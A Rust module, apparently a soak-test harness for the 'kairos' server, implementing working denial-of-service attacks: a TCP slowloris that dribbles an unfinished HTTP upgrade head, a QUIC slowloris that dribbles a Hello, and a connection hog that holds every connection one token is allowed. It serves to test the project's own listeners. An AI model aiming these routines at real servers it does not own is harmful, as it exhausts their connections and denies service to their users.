//! Attacks on a server's listeners, as a hostile client would run them, for the mixed soak
//! (`scripts/soak.sh --mixed`, through the `kairos-attack` binary) and for tests:
//!
//! - [`slowloris_tcp`]: connections to a TCP listener (the openpi endpoint, the metrics port)
//!   that send an HTTP request head one byte at a time and never finish it;
//! - [`slowloris_quic`]: QUIC connections to the robot listener that finish the handshake, then
//!   send a `Hello` one byte at a time and never finish it;
//! - [`connection_hog`]: one robot token opening every authenticated QUIC connection the server
//!   lets it have, and holding them.
//!
//! Each attack runs until its task is dropped or aborted (its connections are then closed) and
//! counts what happened in [`AttackCounters`], which the caller reads while it runs.

use std::net::{IpAddr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::{Duration, Instant};

use kairos_sdk::protocol::{Hello, Limits, Message, PROTOCOL_VERSION, read_message};
use kairos_sdk::tls::ServerTrust;
use kairos_sdk::transport::{TransportTuning, client_config};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::task::JoinSet;

/// Time between two bytes of a slowloris connection: slow enough that a request never
/// completes, fast enough that a server closing idle connections sees it as busy.
pub const DRIBBLE: Duration = Duration::from_secs(1);

/// After a failed connect, before the next try (so a refusing server is not spun against).
const RETRY_AFTER_FAILURE: Duration = Duration::from_millis(100);

/// After a refusal, before the connection hog asks for one more place.
const HOG_RETRY: Duration = Duration::from_secs(1);

/// Limit on one connect (handshake included), so a listener that never answers counts failures.
const CONNECT_TIMEOUT: Duration = Duration::from_secs(10);

/// What an attack did so far. Every field only grows, except `held`.
#[derive(Debug, Default)]
pub struct AttackCounters {
    /// Connections opened (TCP connected; QUIC handshake done; hog: authenticated).
    pub opened: AtomicU64,
    /// Connections open now.
    pub held: AtomicU64,
    /// Connections the server closed (or reset) while the attack held them.
    pub closed_by_server: AtomicU64,
    /// Connects the server refused (hog: `Hello` answered with an error such as `AT_CAPACITY`).
    pub refused: AtomicU64,
    /// Connects that failed otherwise (timed out, reset before the handshake finished).
    pub failed: AtomicU64,
    /// The longest time the server let one connection hold, milliseconds.
    pub longest_hold_ms: AtomicU64,
}

impl AttackCounters {
    /// New counters, shared between the attack and its observer.
    pub fn shared() -> Arc<AttackCounters> {
        Arc::new(AttackCounters::default())
    }

    /// One line: `opened A, held B, closed by server C (longest hold D ms), refused E, failed F`.
    pub fn summary(&self) -> String {
        format!(
            "opened {}, held {}, closed by server {} (longest hold {} ms), refused {}, failed {}",
            self.opened.load(Ordering::Relaxed),
            self.held.load(Ordering::Relaxed),
            self.closed_by_server.load(Ordering::Relaxed),
            self.longest_hold_ms.load(Ordering::Relaxed),
            self.refused.load(Ordering::Relaxed),
            self.failed.load(Ordering::Relaxed),
        )
    }

    fn add(counter: &AtomicU64) {
        counter.fetch_add(1, Ordering::Relaxed);
    }

    fn hold_ended(&self, since: Instant) {
        self.held.fetch_sub(1, Ordering::Relaxed);
        Self::add(&self.closed_by_server);
        let ms = u64::try_from(since.elapsed().as_millis()).unwrap_or(u64::MAX);
        self.longest_hold_ms.fetch_max(ms, Ordering::Relaxed);
    }
}

/// The request head a TCP slowloris sends, byte by byte: an HTTP upgrade without a token (what
/// an openpi client sends first), then header lines without end, so the head never completes.
const HTTP_HEAD: &[u8] = b"GET / HTTP/1.1\r\nHost: kairos\r\nUpgrade: websocket\r\n\
Connection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n";
const HTTP_PADDING: &[u8] = b"X-Padding: slow\r\n";

/// Holds `slots` TCP connections to `target`, each sending an HTTP request head one byte per
/// [`DRIBBLE`] and never finishing it; a connection the server closes is opened again. From
/// `source` (an address of this host) if given, else from the address the system picks.
pub async fn slowloris_tcp(
    target: SocketAddr,
    slots: usize,
    counters: Arc<AttackCounters>,
    source: Option<IpAddr>,
) {
    let mut set = JoinSet::new();
    for _ in 0..slots {
        let counters = counters.clone();
        set.spawn(async move {
            loop {
                let stream = match tokio::time::timeout(
                    CONNECT_TIMEOUT,
                    tcp_connect(target, source),
                )
                .await
                {
                    Ok(Ok(stream)) => stream,
                    Ok(Err(_)) | Err(_) => {
                        AttackCounters::add(&counters.failed);
                        tokio::time::sleep(RETRY_AFTER_FAILURE).await;
                        continue;
                    }
                };
                AttackCounters::add(&counters.opened);
                counters.held.fetch_add(1, Ordering::Relaxed);
                let since = Instant::now();
                hold_tcp(stream).await;
                counters.hold_ended(since);
            }
        });
    }
    while set.join_next().await.is_some() {}
}

/// A TCP connection to `target`, from `source` if given.
async fn tcp_connect(target: SocketAddr, source: Option<IpAddr>) -> std::io::Result<TcpStream> {
    let Some(source) = source else {
        return TcpStream::connect(target).await;
    };
    let socket = if source.is_ipv4() {
        TcpSocket::new_v4()?
    } else {
        TcpSocket::new_v6()?
    };
    socket.bind(SocketAddr::new(source, 0))?;
    socket.connect(target).await
}

/// Dribbles the head into `stream` until the server closes it (end of stream, a reset, or a
/// failed write). What the server answers (a 408, an error page) is read and ignored.
async fn hold_tcp(stream: TcpStream) {
    let (mut read, mut write) = stream.into_split();
    let dribble = async move {
        let bytes = HTTP_HEAD.iter().chain(HTTP_PADDING.iter().cycle());
        for byte in bytes {
            if write.write_all(&[*byte]).await.is_err() {
                return;
            }
            tokio::time::sleep(DRIBBLE).await;
        }
    };
    let closed = async move {
        let mut buffer = [0u8; 1024];
        while let Ok(n) = read.read(&mut buffer).await {
            if n == 0 {
                return;
            }
        }
    };
    tokio::select! {
        () = dribble => {}
        () = closed => {}
    }
}

/// Holds `slots` QUIC connections to the robot listener at `addr` (trusting its certificate as
/// `trust`: the fingerprint is public), each sending a `Hello` with a wrong token one byte per
/// [`DRIBBLE`]; a connection the server closes is opened again.
pub async fn slowloris_quic(
    addr: SocketAddr,
    trust: ServerTrust,
    slots: usize,
    counters: Arc<AttackCounters>,
    source: Option<IpAddr>,
) -> anyhow::Result<()> {
    let config = client_config(&trust, &TransportTuning::default())?;
    // One socket for every slot, as one attacking host would have.
    let mut endpoint = quinn::Endpoint::client(local_address(addr, source))?;
    endpoint.set_default_client_config(config);
    let hello = Message::Hello(Hello {
        protocol: PROTOCOL_VERSION,
        token: "slowloris".into(),
        client: "kairos-attack".into(),
    })
    .encode(u32::MAX)?;
    let hello: Arc<[u8]> = hello.into();
    let mut set = JoinSet::new();
    for _ in 0..slots {
        let (endpoint, counters, hello) = (endpoint.clone(), counters.clone(), hello.clone());
        set.spawn(async move {
            loop {
                let connecting = match endpoint.connect(addr, "kairos") {
                    Ok(connecting) => connecting,
                    Err(_) => {
                        AttackCounters::add(&counters.failed);
                        tokio::time::sleep(RETRY_AFTER_FAILURE).await;
                        continue;
                    }
                };
                let connection = match tokio::time::timeout(CONNECT_TIMEOUT, connecting).await {
                    Ok(Ok(connection)) => connection,
                    Ok(Err(quinn::ConnectionError::ConnectionClosed(_)))
                    | Ok(Err(quinn::ConnectionError::ApplicationClosed(_))) => {
                        AttackCounters::add(&counters.refused);
                        tokio::time::sleep(RETRY_AFTER_FAILURE).await;
                        continue;
                    }
                    Ok(Err(_)) | Err(_) => {
                        AttackCounters::add(&counters.failed);
                        tokio::time::sleep(RETRY_AFTER_FAILURE).await;
                        continue;
                    }
                };
                AttackCounters::add(&counters.opened);
                counters.held.fetch_add(1, Ordering::Relaxed);
                let since = Instant::now();
                let dribble = async {
                    let Ok((mut send, _recv)) = connection.open_bi().await else {
                        return;
                    };
                    for byte in hello.iter() {
                        if send.write_all(&[*byte]).await.is_err() {
                            return;
                        }
                        tokio::time::sleep(DRIBBLE).await;
                    }
                    // The whole `Hello` went out (a server with no deadline): its answer is a
                    // refusal of the wrong token, and the connection is closed after it.
                    std::future::pending::<()>().await;
                };
                tokio::select! {
                    () = dribble => {}
                    _ = connection.closed() => {}
                }
                connection.close(0u32.into(), b"");
                counters.hold_ended(since);
            }
        });
    }
    while set.join_next().await.is_some() {}
    Ok(())
}

/// Opens authenticated connections to `addr` with one robot token until the server refuses one,
/// holds every connection it got, and asks for one more each [`HOG_RETRY`], for as long as it
/// runs. A held connection that the server closes is counted and dropped.
pub async fn connection_hog(
    addr: SocketAddr,
    trust: ServerTrust,
    token: String,
    counters: Arc<AttackCounters>,
    source: Option<IpAddr>,
) -> anyhow::Result<()> {
    let config = client_config(&trust, &TransportTuning::default())?;
    // One socket for every connection, as one robot process would have.
    let mut endpoint = quinn::Endpoint::client(local_address(addr, source))?;
    endpoint.set_default_client_config(config);
    let hello = Message::Hello(Hello {
        protocol: PROTOCOL_VERSION,
        token,
        client: "kairos-attack (connection hog)".into(),
    })
    .encode(u32::MAX)?;
    let mut held: Vec<(quinn::Connection, Instant)> = Vec::new();
    loop {
        match tokio::time::timeout(CONNECT_TIMEOUT, authenticate(&endpoint, addr, &hello)).await {
            Ok(Ok(connection)) => {
                AttackCounters::add(&counters.opened);
                counters.held.fetch_add(1, Ordering::Relaxed);
                held.push((connection, Instant::now()));
                continue;
            }
            Ok(Err(HogRefusal::Refused)) => AttackCounters::add(&counters.refused),
            Ok(Err(HogRefusal::Failed)) | Err(_) => AttackCounters::add(&counters.failed),
        }
        // Connections the server has closed since the last look give their places back.
        held.retain(|(connection, since)| {
            if connection.close_reason().is_some() {
                counters.hold_ended(*since);
                false
            } else {
                true
            }
        });
        tokio::time::sleep(HOG_RETRY).await;
    }
}

/// Why the connection hog did not get a connection.
enum HogRefusal {
    /// The server answered `Hello` with an error or closed the connection with a reason.
    Refused,
    /// The handshake or the exchange failed otherwise.
    Failed,
}

/// One connection that said `hello` and got `Welcome`.
async fn authenticate(
    endpoint: &quinn::Endpoint,
    addr: SocketAddr,
    hello: &[u8],
) -> Result<quinn::Connection, HogRefusal> {
    let connection = endpoint
        .connect(addr, "kairos")
        .map_err(|_| HogRefusal::Failed)?
        .await
        .map_err(|error| match error {
            quinn::ConnectionError::ApplicationClosed(_)
            | quinn::ConnectionError::ConnectionClosed(_) => HogRefusal::Refused,
            _ => HogRefusal::Failed,
        })?;
    let answer = async {
        let (mut send, mut recv) = connection.open_bi().await.ok()?;
        send.write_all(hello).await.ok()?;
        send.finish().ok()?;
        read_message(&mut recv, &Limits::default()).await.ok()?
    }
    .await;
    match answer {
        Some(Message::Welcome(_)) => Ok(connection),
        Some(_) => Err(HogRefusal::Refused),
        None => match connection.close_reason() {
            Some(quinn::ConnectionError::ApplicationClosed(_)) => Err(HogRefusal::Refused),
            _ => {
                // A refusal closes the connection right after the answer; give it the time.
                match tokio::time::timeout(Duration::from_secs(1), connection.closed()).await {
                    Ok(quinn::ConnectionError::ApplicationClosed(_)) => Err(HogRefusal::Refused),
                    _ => Err(HogRefusal::Failed),
                }
            }
        },
    }
}

/// Where a client socket towards `addr` binds: `source` if given, else the unspecified address
/// of `addr`'s family; port 0.
fn local_address(addr: SocketAddr, source: Option<IpAddr>) -> SocketAddr {
    if let Some(source) = source {
        return SocketAddr::new(source, 0);
    }
    match addr {
        SocketAddr::V4(_) => SocketAddr::from(([0, 0, 0, 0], 0)),
        SocketAddr::V6(_) => SocketAddr::from(([0u16; 8], 0)),
    }
}

/// Resolves after `seconds`, or at SIGINT or SIGTERM (without `seconds`, only then): when an
/// attacking process stops.
pub async fn until_stopped(seconds: Option<u64>) {
    let timer = async {
        match seconds {
            Some(seconds) => tokio::time::sleep(Duration::from_secs(seconds)).await,
            None => std::future::pending().await,
        }
    };
    let terminate = async {
        match tokio::signal::unix::signal(tokio::signal::unix::SignalKind::terminate()) {
            Ok(mut signal) => {
                signal.recv().await;
            }
            Err(_) => std::future::pending().await,
        }
    };
    tokio::select! {
        () = timer => {}
        _ = tokio::signal::ctrl_c() => {}
        () = terminate => {}
    }
}
